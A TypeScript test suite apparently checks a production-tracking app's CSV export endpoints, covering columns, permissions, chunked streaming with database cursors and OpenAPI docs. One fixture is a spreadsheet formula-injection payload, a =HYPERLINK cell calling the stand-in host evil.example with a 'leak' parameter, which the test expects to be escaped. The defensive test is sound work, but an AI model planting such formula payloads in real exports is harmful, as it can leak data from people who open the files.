import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestContext, type TestContext } from '../../../../test/support/test-app.ts';
import { UNKNOWN_ID } from '../breakdown/breakdown.test-support.ts';
import { sql } from 'kysely';
import { csvProduction, FORMULA_DESCRIPTION } from './csv-production.fixtures.ts';
import { streamRows } from './export-stream.ts';
import { waitFor } from '../../../../test/support/wait.ts';

let ctx: TestContext;
let p: Awaited<ReturnType<typeof csvProduction>>;

beforeAll(async () => {
  ctx = await createTestContext();
  p = await csvProduction(ctx);
});
afterAll(async () => {
  await ctx.close();
});

const rowsOf = (body: string): string[][] => parse(body, { delimiter: ';', relax_column_count: true }) as string[][];
const exportOf = (projectId: string, file: string, query = '') => `export/csv/projects/${projectId}/${file}${query}`;

describe('shots.csv', () => {
  it('streams the shots with frames, metadata and one status + assignations pair per task type, as an attachment', async () => {
    const res = await p.artist.api.get(exportOf(p.project.id, 'shots.csv'));
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const slug = p.project.name.toLowerCase().replace(/ /g, '_');
    expect(res.headers['content-disposition']).toBe(`attachment; filename=kitsu_${slug}_shots.csv`);
    const [header, ...rows] = rowsOf(res.body);
    const { layout, animation } = p.taskTypes;
    const { alice, bob } = p.people;
    expect(header).toEqual([
      'Project', 'Episode', 'Sequence', 'Name', 'Description', 'Time Spent', 'Frames', 'Frame In', 'Frame Out', 'FPS',
      'Camera', 'Stereo', layout.name, 'Assignations', animation.name, 'Assignations',
    ]);
    expect(rows).toEqual([
      [p.project.name, '', 'SQ01', 'SH010', `'${FORMULA_DESCRIPTION}`, '1.50', '48', '1001', '1048', '24', 'cam; "A"', 'true', 'done', alice.name, 'wip', [alice.name, bob.name].sort().join(',')],
      [p.project.name, '', 'SQ01', 'SH020', 'Hero looks\nat the sword', '0.00', '24', '1049', '1072', '24', '', 'false', 'wfa', bob.name, 'todo', ''],
      // A plain negative number is not a formula and stays as it is.
      [p.project.name, '', 'SQ02', 'SH010', "'@lead: check the timing", '0.00', '5', '-5', '-1', '', "'+cam_B", 'false', 'retake', '', 'todo', ''],
    ]);
    // RFC 4180 on the wire: the formula cell is quoted because of its quotes, the CRLF ends each line.
    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/x?leak=1"";""click me"")"`);
    expect(res.body.split('\r\n')[0]).toBe(header.join(';'));
  });

  it('narrows to the caller\'s assignments with assigned_to, and to an episode with episode_id', async () => {
    const alice = await ctx.db.selectFrom('person').select('id').where('id', '=', p.people.alice.id).executeTakeFirstOrThrow();
    const { tokenFor } = await import('../../../../test/support/factories.ts');
    const { apiAs } = await import('../breakdown/breakdown.test-support.ts');
    const api = apiAs(ctx, await tokenFor(ctx, alice));
    const mine = rowsOf((await api.get(exportOf(p.project.id, 'shots.csv', '?assigned_to=true'))).body);
    expect(mine.slice(1).map((row) => row[3])).toEqual(['SH010']);
    const none = rowsOf((await p.manager.api.get(exportOf(p.project.id, 'shots.csv', `?episode_id=${UNKNOWN_ID}`))).body);
    expect(none).toHaveLength(1);
    expect((await p.manager.api.get(exportOf(p.project.id, 'shots.csv', '?episode_id=nope'))).statusCode).toBe(400);
  });

  it('refuses vendors and people outside the team, and answers 404 for an unknown production', async () => {
    expect((await p.vendor.api.get(exportOf(p.project.id, 'shots.csv'))).statusCode).toBe(403);
    expect((await p.outsider.api.get(exportOf(p.project.id, 'shots.csv'))).statusCode).toBe(403);
    expect((await p.admin.api.get(exportOf(UNKNOWN_ID, 'shots.csv'))).statusCode).toBe(404);
    expect((await p.vendor.api.get(exportOf(p.project.id, 'assets.csv'))).statusCode).toBe(403);
    expect((await p.vendor.api.get(exportOf(p.project.id, 'casting.csv'))).statusCode).toBe(403);
  });
});

describe('assets.csv and casting.csv', () => {
  it('lists assets by type then name with their task columns and metadata', async () => {
    const res = await p.manager.api.get(exportOf(p.project.id, 'assets.csv'));
    expect(res.statusCode).toBe(200);
    const [header, ...rows] = rowsOf(res.body);
    const { modeling, rigging } = p.taskTypes;
    expect(header).toEqual(['Project', 'Type', 'Name', 'Description', 'Time Spent', 'Complexity', modeling.name, 'Assignations', rigging.name, 'Assignations']);
    expect(rows).toEqual([
      [p.project.name, 'Character', 'Hero', 'The hero', '2.00', 'high', 'done', p.people.bob.name, 'wip', p.people.alice.name],
      [p.project.name, 'Character', 'Villain', '', '0.00', '', 'todo', '', 'todo', ''],
      [p.project.name, 'Prop', 'Sword', '', '0.00', 'low', 'wfa', p.people.alice.name, 'todo', ''],
    ]);
  });

  it('exports the casting of assets by default and the casting of shots with is_shot_casting=true', async () => {
    const assets = rowsOf((await p.artist.api.get(exportOf(p.project.id, 'casting.csv'))).body);
    expect(assets).toEqual([
      ['Parent', 'Name', 'Asset Type', 'Asset', 'Occurences', 'Label'],
      ['Character', 'Hero', 'Prop', 'Sword', '1', ''],
    ]);
    const shots = rowsOf((await p.artist.api.get(exportOf(p.project.id, 'casting.csv', '?is_shot_casting=true'))).body);
    expect(shots).toEqual([
      ['Parent', 'Name', 'Asset Type', 'Asset', 'Occurences', 'Label'],
      ['SQ01', 'SH010', 'Character', 'Hero', '2', 'fixed'],
      ['SQ01', 'SH010', 'Prop', 'Sword', '1', ''],
      ['SQ01', 'SH020', 'Character', 'Villain', '1', 'animate'],
    ]);
  });

  it('adds the Episode column for a tv show, MP for main-pack assets', async () => {
    const tv = await csvProduction(ctx, { tvShow: true });
    const shots = rowsOf((await tv.manager.api.get(exportOf(tv.project.id, 'shots.csv'))).body);
    expect(shots.slice(1).map((row) => row.slice(1, 4))).toEqual([['E01', 'SQ01', 'SH010'], ['E01', 'SQ01', 'SH020'], ['E01', 'SQ02', 'SH010']]);
    const assets = rowsOf((await tv.manager.api.get(exportOf(tv.project.id, 'assets.csv'))).body);
    expect(assets[0].slice(0, 4)).toEqual(['Project', 'Type', 'Episode', 'Name']);
    expect(assets.slice(1).map((row) => row.slice(1, 4))).toEqual([['Character', 'E01', 'Hero'], ['Character', 'E01', 'Villain'], ['Prop', 'MP', 'Sword']]);
    const casting = rowsOf((await tv.manager.api.get(exportOf(tv.project.id, 'casting.csv', '?is_shot_casting=true'))).body);
    expect(casting[0]).toEqual(['Episode', 'Parent', 'Name', 'Asset Type', 'Asset', 'Occurences', 'Label']);
    expect(casting[1]).toEqual(['E01', 'SQ01', 'SH010', 'Character', 'Hero', '2', 'fixed']);
  });
});

describe('studio exports', () => {
  it('lets global managers export persons, task types, projects and open tasks; artists get 403', async () => {
    for (const file of ['persons.csv', 'task-types.csv', 'projects.csv', 'tasks.csv']) {
      expect((await p.artist.api.get(`export/csv/${file}`)).statusCode).toBe(403);
      const res = await p.manager.api.get(`export/csv/${file}`);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    }
    const persons = rowsOf((await p.manager.api.get('export/csv/persons.csv')).body);
    expect(persons[0]).toEqual(['First Name', 'Last Name', 'Email', 'Phone', 'Role', 'Departments', 'Studio', 'Country', 'Contract Type', 'Position', 'Seniority', 'Daily Salary', 'Active']);
    const alice = persons.find((row) => row[2] === p.people.alice.email);
    expect(alice).toEqual([p.people.alice.name.split(' ')[0], 'Artist', p.people.alice.email, '', 'user', '', '', '', 'open-ended', 'artist', 'mid', '0', 'yes']);
    const tasks = rowsOf((await p.manager.api.get(`export/csv/projects/${p.project.id}/tasks.csv`)).body);
    expect(tasks[0]).toEqual(['Project', 'Task Type', 'Episode', 'Sequence', 'Entity Type', 'Entity', 'Assigner', 'Assignees', 'Duration', 'Estimation', 'Start date', 'Due date', 'WIP date', 'Validation date', 'Task Status']);
    expect(tasks).toHaveLength(13);
    expect(tasks).toContainEqual([p.project.name, p.taskTypes.animation.name, '', 'SQ01', 'Shot', 'SH010', '', [p.people.alice.name, p.people.bob.name].join(', '), '240', '0', '', '', '', '', 'In Progress']);
  });
});

let port: number | undefined;
async function listening(): Promise<number> {
  if (port === undefined) {
    await ctx.app.listen({ port: 0, host: '127.0.0.1' });
    port = (ctx.app.server.address() as AddressInfo).port;
  }
  return port;
}

describe('streaming', () => {
  it('reads export rows through a cursor: the first chunks arrive before the server has computed the last rows', async () => {
    // Row 1200 fails; a buffered query would fail before yielding anything, a cursor yields the chunks before it.
    const query = sql<{ i: number }>`SELECT CASE WHEN i < 1200 THEN i ELSE 1 / (i - i) END AS i FROM generate_series(1, 2000) i`;
    const seen: number[] = [];
    await expect((async () => {
      for await (const row of streamRows(ctx.db, query, 500)) seen.push(row.i);
    })()).rejects.toThrow(/division by zero/);
    expect(seen).toHaveLength(1000);
    expect(seen[999]).toBe(1000);
  });

  it('sends a few thousand shots chunk by chunk (chunked transfer encoding, no Content-Length), every row once', async () => {
    const big = await csvProduction(ctx);
    const sequence = await ctx.db.selectFrom('entity').select('id').where('project_id', '=', big.project.id).where('name', '=', 'SQ02').executeTakeFirstOrThrow();
    const shotType = await ctx.db.selectFrom('entity_type').select('id').where('name', '=', 'Shot').executeTakeFirstOrThrow();
    const total = 4000;
    await ctx.db.insertInto('entity').values(Array.from({ length: total }, (_, i) => ({
      project_id: big.project.id, entity_type_id: shotType.id, parent_id: sequence.id, name: `SH${String(i + 100).padStart(5, '0')}`,
      description: `A long enough description for shot ${i}, so that the file is a few hundred kilobytes.`.repeat(2),
    }))).execute();

    const port = await listening();
    const { headers, chunks } = await new Promise<{ headers: Record<string, unknown>; chunks: Buffer[] }>((resolve, reject) => {
      const req = httpRequest({ host: '127.0.0.1', port, path: `/api/${exportOf(big.project.id, 'shots.csv')}`, headers: { authorization: `Bearer ${big.manager.token}` } }, (res) => {
        const received: Buffer[] = [];
        res.on('data', (chunk: Buffer) => received.push(chunk));
        res.on('end', () => resolve({ headers: res.headers, chunks: received }));
        res.on('error', reject);
      });
      req.on('error', reject);
      req.end();
    });
    expect(headers['transfer-encoding']).toBe('chunked');
    expect(headers['content-length']).toBeUndefined();
    const body = Buffer.concat(chunks).toString('utf8');
    expect(chunks.length).toBeGreaterThan(3);
    expect(chunks[0].length).toBeLessThan(body.length / 3);
    const rows = rowsOf(body);
    expect(rows).toHaveLength(1 + 3 + total);
    expect(new Set(rows.slice(1).map((row) => `${row[2]}/${row[3]}`)).size).toBe(3 + total);
  });
});

describe('streaming, client side', () => {
  it('holds the cursor while a slow client reads, and releases it when the client goes away', async () => {
    const big = await csvProduction(ctx);
    const sequence = await ctx.db.selectFrom('entity').select('id').where('project_id', '=', big.project.id).where('name', '=', 'SQ02').executeTakeFirstOrThrow();
    await sql`INSERT INTO entity (project_id, entity_type_id, parent_id, name, description)
      SELECT ${big.project.id}::uuid, (SELECT id FROM entity_type WHERE name = 'Shot'), ${sequence.id}::uuid, 'SHX' || i, repeat('x', 300)
        FROM generate_series(1, 20000) i`.execute(ctx.db);
    const exporting = () => sql<{ n: number }>`
      SELECT count(*)::int AS n FROM pg_stat_activity
       WHERE datname = current_database() AND pid <> pg_backend_pid() AND state <> 'idle' AND query LIKE '%CROSS JOIN LATERAL%'`.execute(ctx.db);
    const port = await listening();
    const req = httpRequest({ host: '127.0.0.1', port, path: `/api/${exportOf(big.project.id, 'shots.csv')}`, headers: { authorization: `Bearer ${big.manager.token}` } });
    await new Promise<void>((resolve, reject) => {
      req.on('response', (res) => res.once('data', () => {
        res.pause();
        resolve();
      }));
      req.on('error', reject);
      req.end();
    });
    // The client stopped reading after the first chunk: the export waits with its cursor open.
    await waitFor(async () => (await exporting()).rows[0]?.n === 1, { what: 'the export query to be running', timeoutMs: 5000 });
    req.destroy();
    await waitFor(async () => (await exporting()).rows[0]?.n === 0, { what: 'the cursor to be closed', timeoutMs: 5000 });
  });
});

describe('OpenAPI', () => {
  it('documents every CSV export as a text/csv response with its columns', async () => {
    const doc = (await ctx.app.inject({ method: 'GET', url: '/api/openapi.json' })).json() as {
      paths: Record<string, { get?: { description?: string; responses?: Record<string, { content?: Record<string, unknown> }> } }>;
    };
    for (const path of [
      '/api/export/csv/projects/{project_id}/shots.csv', '/api/export/csv/projects/{project_id}/assets.csv',
      '/api/export/csv/projects/{project_id}/casting.csv', '/api/export/csv/projects/{project_id}/tasks.csv',
      '/api/export/csv/persons.csv', '/api/export/csv/task-types.csv', '/api/export/csv/projects.csv', '/api/export/csv/tasks.csv',
    ]) {
      const get = doc.paths[path]?.get;
      expect(get?.responses?.['200']?.content).toHaveProperty(['text/csv']);
      expect(get?.description).toContain('Columns:');
    }
  });
});
